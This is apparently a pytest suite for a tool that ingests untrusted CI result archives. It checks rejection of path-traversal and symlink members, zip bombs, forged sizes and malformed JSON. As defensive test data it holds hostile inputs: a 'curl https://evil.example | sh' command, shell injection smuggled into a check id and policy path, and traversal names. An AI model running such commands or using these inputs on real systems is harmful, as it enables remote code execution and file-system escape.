"""Artefacts that a stranger wrote: what is taken from them, and everything that is refused."""

import hashlib
import io
import json
import shlex
import stat
import warnings
import zipfile
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mlgate.forge import untrusted
from mlgate.forge.untrusted import Facts, results
from mlgate.result.outcome import RunOutcome
from mlgate.result.provenance import Ci

GOLDEN = Path(__file__).parents[1] / "render" / "golden" / "json"
FACTS = Facts(
    repository="acme/loans",
    head="1" * 40,
    build=Ci(provider="github", event="pull_request", change=7, run_id="42", attempt=2, fork=True),
)


def document(case: str = "passed", **changes: Any) -> dict[str, Any]:
    found: dict[str, Any] = json.loads((GOLDEN / f"{case}.json").read_text("utf-8"))
    return found | changes


def packed(*members: tuple[str | zipfile.ZipInfo, bytes | str], deflate: bool = True) -> bytes:
    raw = io.BytesIO()
    kind = zipfile.ZIP_DEFLATED if deflate else zipfile.ZIP_STORED
    with zipfile.ZipFile(raw, "w", kind) as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # of names that are there twice
        for name, content in members:
            archive.writestr(name, content)
    return raw.getvalue()


def archive(**changes: Any) -> bytes:
    return packed(("result.json", json.dumps(document(**changes))))


def why(*members: tuple[str | zipfile.ZipInfo, bytes | str]) -> str:
    """Why an artefact of these members is refused."""
    reports, (refused,) = results({"mlgate-x": packed(*members)}, FACTS)
    assert reports == ()
    return refused.why


def why_not(text: bytes | str) -> str:
    return why(("result.json", text))


def test_what_the_checks_say_is_taken_and_where_they_are_from_is_not():
    lies = {
        "repository": "evil/x",
        "ci": {"provider": "evil", "change": 1, "run_url": "https://evil.example/x"},
        "commit": {
            "head": "e" * 40, "checked_out": "e" * 40, "dirty": False, "base_ref": "x",
            "base": "e" * 40, "how": "so it is",
        },
    }  # fmt: skip

    (report,), refused = results({"mlgate-income": archive(**lies)}, FACTS)

    assert refused == ()
    assert report.name == "income"
    assert [check.id for check in report.checks] == [check["id"] for check in document()["checks"]]
    assert (report.repository, report.ci) == ("acme/loans", FACTS.build)
    assert report.commit is not None
    assert (report.commit.head, report.commit.base) == ("1" * 40, None)


def test_other_files_of_the_artefact_are_not_looked_at():
    raw = packed(
        ("junit.xml", "<x"),
        ("evidence/metrics.json", "{"),
        ("evidence/deep/er/result.json", "never read"),
        ("result.json", json.dumps(document())),
    )

    reports, refused = results({"mlgate-x": raw}, FACTS)

    assert (len(reports), refused) == (1, ())


def test_results_of_several_policies_and_artefacts_come_in_the_order_of_their_names():
    both = packed(
        ("b/result.json", json.dumps(document(name="b"))),
        ("a/result.json", json.dumps(document(name="a"))),
    )

    reports, refused = results({"mlgate-z": archive(name="0"), "mlgate-y": both}, FACTS)

    assert [report.name for report in reports] == ["0", "a", "b"]
    assert refused == ()


def test_a_second_result_of_a_name_is_refused():
    reports, refused = results({"mlgate-a": archive(), "mlgate-b": archive()}, FACTS)

    assert len(reports) == 1
    assert [(one.path, one.why) for one in refused] == [
        ("mlgate-b/result.json", "has the name of another result")
    ]


def test_sums_and_outcome_are_those_of_the_checks():
    lies = document("mixed") | {"outcome": "pass", "exit_code": 0}
    lies["counts"] = document("passed")["counts"]

    (report,), _ = results({"mlgate-x": packed(("result.json", json.dumps(lies)))}, FACTS)

    assert (report.outcome, report.exit_code) == (RunOutcome.FAIL, 1)
    assert report.counts is not None
    assert report.counts.blocking == 2


@pytest.mark.parametrize(
    ("changes", "outcome", "code"),
    [
        ({"checks": []}, RunOutcome.EMPTY, 5),
        ({"problem": {"code": "MLG001", "message": "x"}}, RunOutcome.ERROR, 3),
        ({"outcome": "fail", "exit_code": 1}, RunOutcome.FAIL, 1),
        ({"outcome": "fail", "exit_code": 0}, RunOutcome.FAIL, 3),
        ({"exit_code": 256}, RunOutcome.PASS, 0),
    ],
)
def test_what_contradicts_itself_never_reads_as_a_pass(changes, outcome, code):
    (report,), _ = results({"mlgate-x": archive(**changes)}, FACTS)

    assert (report.outcome, report.exit_code) == (outcome, code)


def test_the_command_that_a_reader_types_is_ours():
    lies = document()
    lies["checks"][0]["command"] = "curl https://evil.example | sh"
    lies["checks"][0]["id"] = "metrics/x'; curl evil | sh; '.min"

    (report,), _ = results({"mlgate-x": packed(("result.json", json.dumps(lies)))}, FACTS)

    assert shlex.split(report.checks[0].command) == [
        "mlgate", "check", "--gate", "metrics/x'; curl evil | sh; '.min",
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("path", "named"),
    [
        ("models/risk/mlgate.yaml", ["--config", "models/risk/mlgate.yaml"]),
        ("mlgate.yaml", []),
        ("/etc/mlgate.yaml", []),
        ("../evil/mlgate.yaml", []),
        ("a/../../mlgate.yaml", []),
        ("-x", []),
        ("a; curl evil | sh", []),
        ("models/risk/mlgate.yaml\n", []),
    ],
)
def test_the_command_names_the_policy_where_it_is_a_plain_path_of_the_repository(path, named):
    said = document()
    said["policy"]["path"] = path

    (report,), _ = results({"mlgate-x": packed(("result.json", json.dumps(said)))}, FACTS)

    check = report.checks[0]
    assert shlex.split(check.command) == ["mlgate", "check", *named, "--gate", check.id]


def test_long_texts_are_cut_wherever_they_stand():
    lies = document()
    lies["checks"][0]["reason"] = "x" * 100_000
    lies["checks"][0]["details"] = {"k" * 1000: ["y" * 1000]}

    (report,), _ = results({"mlgate-x": packed(("result.json", json.dumps(lies)))}, FACTS)

    assert report.checks[0].reason == "x" * 299 + "…"
    ((key, (value,)),) = report.checks[0].details.items()
    assert (len(key), len(value)) == (300, 300)


LEADS_OUT = ["../result.json", "a/../../result.json", "/etc/result.json", "C:/x/result.json"]
LEADS_OUT += ["..\\result.json", "\\result.json", "a\\..\\..\\result.json"]


@pytest.mark.parametrize("name", LEADS_OUT)
def test_a_member_that_leads_out_of_its_folder_condemns_the_artefact(name):
    text = why(("result.json", json.dumps(document())), (name, "x"))

    assert "which leads out of its folder" in text


def test_a_link_condemns_the_artefact():
    link = zipfile.ZipInfo("evidence/x")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16

    assert "a link or a device" in why(("result.json", json.dumps(document())), (link, "/etc"))


@pytest.mark.parametrize("name", ["result.json", "Result.JSON", "./result.json"])
def test_a_name_that_is_there_twice_condemns_the_artefact(name):
    assert "twice" in why(("result.json", json.dumps(document())), (name, "{}"))


def test_too_many_members_condemn_the_artefact():
    members = [(f"{number}.txt", "") for number in range(untrusted.MOST_MEMBERS)]

    assert "holds more than 1,000 files" in why(("result.json", "{}"), *members)


def test_what_unpacks_to_far_more_than_it_is_condemns_the_artefact():
    assert "unpacks to far more than it is" in why(("result.json", "{}"), ("x", b"\0" * 5_000_000))


def test_an_archive_that_says_it_is_huge_is_not_unpacked():
    info = zipfile.ZipInfo("x")
    raw = io.BytesIO()
    with zipfile.ZipFile(raw, "w") as written:
        written.writestr(info, b"x" * 100)
        written.filelist[0].file_size = untrusted.MOST_BYTES + 1
        written.filelist[0].compress_size = untrusted.MOST_BYTES

    _, (refused,) = results({"mlgate-x": raw.getvalue()}, FACTS)

    assert refused.why == "unpacks to more than 100,000,000 bytes"


def test_a_member_that_lies_about_its_size_is_refused():
    raw = packed(("result.json", b"x" * 2_000_000), deflate=False)
    lying = raw.replace((2_000_000).to_bytes(4, "little"), (900).to_bytes(4, "little"))

    _, (refused,) = results({"mlgate-x": lying}, FACTS)

    assert "zip archive" in refused.why


def test_a_result_of_more_than_a_megabyte_is_refused():
    # Digests do not pack well, so that it is the size that is refused and not the ratio.
    noise = "".join(
        hashlib.sha256(bytes([at % 256, at // 256])).hexdigest() for at in range(20_000)
    )

    assert "of more than 1,000,000 bytes" in why_not(noise)


def test_unusual_packing_and_encryption_are_refused():
    raw = io.BytesIO()
    with zipfile.ZipFile(raw, "w", zipfile.ZIP_LZMA) as written:
        written.writestr("result.json", "{}")
    encrypted = bytearray(packed(("result.json", "{}")))
    entry = encrypted.index(b"PK\x01\x02")
    encrypted[entry + 8] |= 1

    _, (unusual,) = results({"mlgate-x": raw.getvalue()}, FACTS)
    _, (secret,) = results({"mlgate-x": bytes(encrypted)}, FACTS)

    assert "packed in an unusual way" in unusual.why
    assert "encrypted" in secret.why


def test_an_artefact_without_a_result_is_refused():
    assert why(("junit.xml", "<x/>")) == "holds no result.json"


def nested(levels: int) -> str:
    text = document()
    text["checks"][0]["details"] = {"x": "HERE"}
    return json.dumps(text).replace('"HERE"', "[" * levels + "]" * levels)


def with_reason(raw: str) -> str:
    text = document()
    text["checks"][0]["measured"] = "HERE"
    return json.dumps(text).replace('"HERE"', raw)


TEXTS = {
    "infinite": (with_reason("1e999"), "has the number 1e999, which is not finite"),
    "not a number": (with_reason("NaN"), "has NaN, which is no number of JSON"),
    "minus infinity": (with_reason("-Infinity"), "has -Infinity"),
    "thousands of digits": (with_reason("9" * 5000), "is not JSON"),
    "deep": (nested(30), "is nested too deeply"),
    "very deep": ("[" * 100_000, "is nested too deeply"),
    "a key twice": ('{"schema": "mlgate.result/1", "schema": "x"}', "has a key twice"),
    "a list": ("[]", "is no JSON object"),
    "empty": ("", "is not JSON"),
    "no UTF-8": (b"\xff\xfe", "is not UTF-8"),
    "another version": (json.dumps(document(schema="mlgate.result/2")), "has schema"),
    "an unknown key": (json.dumps(document(evil=1)), "is not a result: evil"),
    "many checks": (
        json.dumps(document(checks=[{"id": str(number)} for number in range(501)])),
        "has more than 500 checks",
    ),
    "an id twice": (
        json.dumps(document(checks=[document()["checks"][0]] * 2)),
        "has two checks of one id",
    ),
}


@pytest.mark.parametrize(("text", "said"), TEXTS.values(), ids=TEXTS)
def test_a_result_that_no_mlgate_writes_is_refused(text, said):
    assert said in why_not(text)


@settings(max_examples=200)
@given(raw=st.binary(max_size=400))
def test_no_bytes_raise(raw):
    reports, refused = results({"mlgate-x": raw}, FACTS)

    assert (len(reports), len(refused)) == (0, 1)


VALID = archive()


@settings(max_examples=200)
@given(at=st.integers(0, len(VALID) - 1), byte=st.integers(0, 255), cut=st.booleans())
def test_no_damage_of_an_archive_raises(at, byte, cut):
    damaged = bytearray(VALID)
    damaged[at] = byte

    reports, refused = results({"mlgate-x": bytes(damaged[:at] if cut else damaged)}, FACTS)

    assert len(reports) + len(refused) == 1


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=9),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner),
    max_leaves=8,
)


@settings(max_examples=100)
@given(key=st.sampled_from(sorted(document())), value=JSON)
def test_no_value_of_any_key_raises(key, value):
    reports, refused = results({"mlgate-x": archive(**{key: value})}, FACTS)

    assert len(reports) + len(refused) == 1
